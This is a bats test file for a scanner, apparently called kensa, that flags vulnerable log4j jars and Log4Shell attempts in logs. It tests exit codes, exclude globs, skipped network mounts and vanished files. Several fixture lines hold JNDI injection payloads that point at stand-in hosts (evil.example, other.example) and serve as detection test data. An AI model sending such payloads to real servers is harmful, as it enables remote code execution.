#!/usr/bin/env bats
# scope.bats - what a scan looks at and what its exit status means for
# automation: files that vanish mid-scan (not an error), --fail-on and
# inventories, --exclude-from and folder globs, network and FUSE mounts
# skipped, kensa's own reports not scanned again.  Races and mounts are
# made deterministic by tests/helpers/kensa-scopehook.so.

load helpers
bats_require_minimum_version 1.5.0

setup_file() {
    make_fixtures
    export HOOK="$KENSA_BUILD/tests/helpers/kensa-scopehook.so"
    # the hook is preloaded ahead of the sanitizer's runtime in an ASan
    # build (make asan): let it
    export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0"
}

# a folder of clean logs
clean_tree() {
    mkdir -p "$1/sub" "$1/gone"
    for i in 1 2 3; do
        echo "GET /$i HTTP/1.1 200" > "$1/a$i.log"
        echo "GET /b$i HTTP/1.1 200" > "$1/sub/b$i.log"
    done
}

# ---- vanished files -------------------------------------------------------

@test "a file deleted between listing and opening: counted, exit 0, no warning" {
    T="$BATS_TEST_TMPDIR/v"; clean_tree "$T"
    LD_PRELOAD="$HOOK" KENSA_VANISH='a2.log' run --separate-stderr \
        "$KENSA" logs --threads 1 --no-confine "$T"
    echo "$stderr"
    [ "$status" -eq 0 ]
    [ ! -e "$T/a2.log" ]                       # the hook did delete it
    ! grep -q "warning" <<<"$stderr"
    grep -q "Vanished while scanning (deleted after listing): 1" <<<"$stderr"
    grep -q "Scanned files: 5 " <<<"$stderr"
}

@test "a folder deleted between listing and opening: counted, exit 0" {
    T="$BATS_TEST_TMPDIR/v"; clean_tree "$T"
    LD_PRELOAD="$HOOK" KENSA_VANISH='gone' run --separate-stderr \
        "$KENSA" logs --threads 1 --no-confine --json "$T"
    [ "$status" -eq 0 ]
    [ ! -e "$T/gone" ]
    only_run_record <<<"$output"               # no warning record either
    grep -q "Vanished while scanning (deleted after listing): 1" <<<"$stderr"
}

@test "vanished files do not hide a finding, and a missing root is still exit 2" {
    T="$BATS_TEST_TMPDIR/v"; clean_tree "$T"
    echo 'GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1' > "$T/sub/hit.log"
    LD_PRELOAD="$HOOK" KENSA_VANISH='a*.log' run \
        "$KENSA" logs --threads 1 --no-confine --no-summary --json "$T"
    [ "$status" -eq 1 ]
    echo "$output" | jq_alerts '.kensa.verdict == "attack"'
    run k logs "$BATS_TEST_TMPDIR/no-such-folder"
    [ "$status" -eq 2 ]
}

# ---- --fail-on and inventories --------------------------------------------

@test "--fail-on: only findings that severe or worse make exit 1" {
    J="$FX/plain/log4j-core-2.17.0.jar"   # medium only
    [ -f "$J" ] || J="$FX/plain/log4j-core-2.16.0.jar"
    run k log4j "$J"
    [ "$status" -eq 1 ]
    run k log4j --fail-on medium --json "$J"
    [ "$status" -eq 1 ]
    run k log4j --fail-on high --json "$J"
    [ "$status" -eq 0 ]
    echo "$output" | jq_alerts '.kensa.severity == "medium"'   # still reported
    run k log4j --fail-on critical "$FX/plain/log4j-core-2.14.1.jar"
    [ "$status" -eq 1 ]
    run k log4j --fail-on severe "$J"
    [ "$status" -eq 2 ]
    [[ "$output" == *"--fail-on"* ]]
}

@test "--all: a patched copy alone is an inventory, exit 0" {
    run k log4j --all --json "$FX/clean"
    [ "$status" -eq 0 ]
    [ "$(echo "$output" | count_alerts)" -eq 3 ]
    run k log4j --all --json "$FX/clean" "$FX/plain/log4j-core-2.14.1.jar"
    [ "$status" -eq 1 ]
}

# ---- excludes -------------------------------------------------------------

@test "--exclude-from: globs from a file, comments and blank lines skipped" {
    T="$BATS_TEST_TMPDIR/e"; mkdir -p "$T/keep" "$T/skip"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/keep/a.jar"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/skip/b.jar"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/c.jar"
    printf '# what not to scan\n\n*/skip/*\r\nc.jar\n' > "$BATS_TEST_TMPDIR/ex"
    run k log4j --json --exclude-from "$BATS_TEST_TMPDIR/ex" "$T"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/keep/a.jar" ]
}

@test "--exclude-from refuses a missing file, a folder, long lines and NUL bytes" {
    run k log4j --exclude-from "$BATS_TEST_TMPDIR/none" "$FX/clean"
    [ "$status" -eq 2 ]
    [[ "$output" == *"cannot read globs from"* ]]
    run k log4j --exclude-from "$BATS_TEST_TMPDIR" "$FX/clean"
    [ "$status" -eq 2 ]
    head -c 5000 /dev/zero | tr '\0' 'a' > "$BATS_TEST_TMPDIR/long"
    run k log4j --exclude-from "$BATS_TEST_TMPDIR/long" "$FX/clean"
    [ "$status" -eq 2 ]
    [[ "$output" == *"longer than"* ]]
    printf 'a\0b\n' > "$BATS_TEST_TMPDIR/nul"
    run k log4j --exclude-from "$BATS_TEST_TMPDIR/nul" "$FX/clean"
    [ "$status" -eq 2 ]
    seq 1 10001 > "$BATS_TEST_TMPDIR/many"
    run k log4j --exclude-from "$BATS_TEST_TMPDIR/many" "$FX/clean"
    [ "$status" -eq 2 ]
    [[ "$output" == *"more than 10000 globs"* ]]
}

@test "--exclude DIR/ prunes folders of that name, not files" {
    T="$BATS_TEST_TMPDIR/d"; mkdir -p "$T/cache/deep" "$T/lib"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/cache/deep/a.jar"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/lib/cache"     # a file named cache
    run k log4j --json --exclude cache/ "$T"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/lib/cache" ]
    run k log4j --json --exclude "$T/cache/" "$T"          # a full path
    [ "$(echo "$output" | count_alerts)" -eq 1 ]
    run k log4j --json --exclude cache "$T"                # no slash: both
    [ "$status" -eq 0 ]
}

# ---- network and FUSE file systems ----------------------------------------
# Only a mount point (a device change) is asked for its type: a tmpfs is
# mounted, then the hook makes it say NFS or FUSE.

# mnt DIR: a tmpfs on DIR (unmounted by teardown), or skip
mnt() {
    mkdir -p "$1"
    mount -t tmpfs kensa-test "$1" 2>/dev/null || skip "cannot mount here"
    echo "$1" >> "$BATS_TEST_TMPDIR/mounts"
}

teardown() {
    [ -f "$BATS_TEST_TMPDIR/mounts" ] || return 0
    while read -r m; do umount "$m" 2>/dev/null || true; done \
        < "$BATS_TEST_TMPDIR/mounts"
}

@test "a network mount beneath a root is skipped and named; --include-fs adds it back" {
    T="$BATS_TEST_TMPDIR/n"; mkdir -p "$T/local"
    mnt "$T/share"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/share/a.jar"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/local/b.jar"
    LD_PRELOAD="$HOOK" KENSA_FAKE_FS='share:6969' run --separate-stderr \
        "$KENSA" log4j --threads 1 --json "$T"
    echo "$stderr"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/local/b.jar" ]
    grep -qxF "skipped network file system: $T/share (nfs)" <<<"$stderr"
    LD_PRELOAD="$HOOK" KENSA_FAKE_FS='share:6969' run \
        "$KENSA" log4j --threads 1 --json --no-summary --include-fs nfs4 "$T"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | count_alerts)" -eq 2 ]
    # without the hook the tmpfs is local: walked
    run k log4j --json "$T"
    [ "$(echo "$output" | count_alerts)" -eq 2 ]
}

@test "a FUSE mount is skipped by default; --include-fs fuse, or naming it as a root, walks it" {
    T="$BATS_TEST_TMPDIR/f"
    mnt "$T/remote"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/remote/a.jar"
    LD_PRELOAD="$HOOK" KENSA_FAKE_FS='remote:65735546' run --separate-stderr \
        "$KENSA" log4j --threads 1 --json "$T"
    echo "$stderr"
    [ "$status" -eq 0 ]
    only_run_record <<<"$output"
    grep -qE "^skipped network file system: $T/remote \(fuse" <<<"$stderr"
    LD_PRELOAD="$HOOK" KENSA_FAKE_FS='remote:65735546' run \
        "$KENSA" log4j --threads 1 --json --no-summary --include-fs fuse "$T"
    [ "$status" -eq 1 ]
    LD_PRELOAD="$HOOK" KENSA_FAKE_FS='remote:65735546' run \
        "$KENSA" log4j --threads 1 --json --no-summary "$T/remote"
    [ "$status" -eq 1 ]
}

@test "run record: excludes given and what they matched, pruned mounts, limits hit" {
    T="$BATS_TEST_TMPDIR/r"; mkdir -p "$T/app/cache" "$T/logs"
    echo x > "$T/app/cache/a.bin"
    echo y > "$T/logs/a.log"
    echo z > "$T/logs/b.log"
    head -c 4096 /dev/zero > "$T/app/big.bin"
    run --separate-stderr k scan --json --exclude cache/ --exclude '*.log' --max-filesize 1K "$T"
    echo "$output" | tail -n 1 | jqe '.event.action == "scan-completed" and
        .kensa.scan.skipped.excludes == ["cache/", "*.log"] and
        .kensa.scan.skipped.excludes_count == 2 and
        .kensa.scan.skipped.excluded == 3 and
        .kensa.scan.skipped.limit == 1 and
        .kensa.scan.skipped.limits.limit_filesize == 1 and
        .kensa.scan.skipped.pruned_count == 0 and .kensa.scan.skipped.pruned == null'
    echo "$output" | python3 "$KENSA_TOP/tests/helpers/ecs_check.py" --expect run
    # nothing skipped: counts of 0, no lists
    run --separate-stderr k scan --json "$T/logs"
    echo "$output" | jqe '.kensa.scan.skipped.excluded == 0 and .kensa.scan.skipped.excludes == null
        and .kensa.scan.skipped.limits == null'
}

@test "run record: a pruned network mount is named with its type" {
    T="$BATS_TEST_TMPDIR/p"; mkdir -p "$T/local"
    mnt "$T/share"
    LD_PRELOAD="$HOOK" KENSA_FAKE_FS='share:6969' run --separate-stderr \
        "$KENSA" log4j --threads 1 --json --no-summary "$T"
    echo "$output" | only_run_record
    echo "$output" | jqe '.kensa.scan.skipped.pruned.path == ["'"$T"'/share"] and
        .kensa.scan.skipped.pruned.type == ["nfs"] and .kensa.scan.skipped.pruned_count == 1'
}

# ---- kensa's own reports --------------------------------------------------

@test "a second kensa logs does not flag the JSON Lines and CSV the first wrote" {
    T="$BATS_TEST_TMPDIR/o"; mkdir -p "$T"
    echo 'GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1' > "$T/access.log"
    run k logs --json -o "$T/kensa.json" "$T"
    [ "$status" -eq 1 ]
    run k logs --csv -o "$T/kensa.csv" "$T"
    [ "$status" -eq 1 ]
    run --separate-stderr "$KENSA" logs --threads 1 --json "$T"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path')" = "$T/access.log" ]
    grep -q "kensa's own reports not scanned: 2" <<<"$stderr"
}

@test "one foreign line and a kensa report is scanned: it cannot hide a log" {
    T="$BATS_TEST_TMPDIR/o2"; mkdir -p "$T"
    echo 'GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1' > "$T/access.log"
    k logs --json -o "$BATS_TEST_TMPDIR/r.json" "$T" || true
    # a real log line appended to kensa's records
    { cat "$BATS_TEST_TMPDIR/r.json"
      echo 'GET /?y=${jndi:rmi://other.example/b} HTTP/1.1'; } > "$T/mixed.log"
    # a log whose lines carry kensa's record as an escaped string value
    rec=$(head -1 "$BATS_TEST_TMPDIR/r.json")
    jq -cn --arg r "$rec" '{"msg": $r, "observer": "x"}' > "$T/app.log"
    # a JSON line that says observer.product kensa but is not valid JSON
    printf '{"observer":{"product":"kensa"},"m":"${jndi:ldap://third.example/c}"\n' > "$T/broken.log"
    run k logs --json "$T"
    [ "$status" -eq 1 ]
    paths=$(echo "$output" | jq -r 'select(.event.kind!="event") | .kensa.path' | sort -u)
    grep -qx "$T/mixed.log" <<<"$paths"
    grep -qx "$T/app.log" <<<"$paths"
    grep -qx "$T/broken.log" <<<"$paths"
}

@test "a CSV with kensa's header and a foreign row is scanned" {
    T="$BATS_TEST_TMPDIR/o3"; mkdir -p "$T"
    echo 'GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1' > "$T/access.log"
    k logs --csv -o "$BATS_TEST_TMPDIR/r.csv" "$T" || true
    rm "$T/access.log"
    { cat "$BATS_TEST_TMPDIR/r.csv"
      printf 'GET /?y=${jndi:rmi://other.example/b} HTTP/1.1\r\n'; } > "$T/x.log"
    run k logs --json "$T"
    [ "$status" -eq 1 ]
    cp "$BATS_TEST_TMPDIR/r.csv" "$T/x.log"
    run k logs --json "$T"
    [ "$status" -eq 0 ]
}
